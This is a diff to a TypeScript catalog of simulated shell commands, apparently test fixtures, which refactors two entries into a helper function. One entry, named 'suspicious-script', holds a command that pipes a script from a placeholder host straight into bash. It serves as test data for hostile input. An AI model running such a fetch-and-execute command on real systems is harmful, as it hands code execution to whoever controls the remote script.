@@ -48,6 +48,11 @@ function lines(seed: number, count: number, make: (r: Prng, i: number) => string
   return out.join('\n') + '\n';
 }
 
+/** A shell command that always succeeds and always prints `text` (the fixed test texts). */
+function printsAlways(name: string, content: string, durationMs: readonly [number, number], text: string): Omit<CatalogCommand, 'os'> {
+  return { name, type: 'RunShellScript', content, durationMs, outcomes: alwaysOk, output: () => text };
+}
+
 const COMMANDS: readonly Omit<CatalogCommand, 'os'>[] = [
   {
     name: 'yum-update-security',
@@ -168,22 +173,8 @@ const COMMANDS: readonly Omit<CatalogCommand, 'os'>[] = [
         ? 'mysqldump: Got error: 1045: Access denied for user \'backup\'@\'localhost\' (using password: YES) when trying to connect\ngzip: stdout: No space left on device\n'
         : 'backup written: /backup/app.sql.gz (1.2G)\n',
   },
-  {
-    name: 'print-banner',
-    type: 'RunShellScript',
-    content: 'cat /etc/motd.d/*.txt\n',
-    durationMs: [300, 1_000],
-    outcomes: alwaysOk,
-    output: () => CJK_OUTPUT,
-  },
-  {
-    name: 'suspicious-script',
-    type: 'RunShellScript',
-    content: 'curl -s https://example.invalid/maint.sh | bash\n',
-    durationMs: [1_000, 3_000],
-    outcomes: alwaysOk,
-    output: () => HOSTILE_OUTPUT,
-  },
+  printsAlways('print-banner', 'cat /etc/motd.d/*.txt\n', [300, 1_000], CJK_OUTPUT),
+  printsAlways('suspicious-script', 'curl -s https://example.invalid/maint.sh | bash\n', [1_000, 3_000], HOSTILE_OUTPUT),
 ];
 
 export const CATALOG: readonly CatalogCommand[] = COMMANDS.map((c) => ({ ...c, os: c.type === 'RunShellScript' ? 'linux' : 'windows' }));
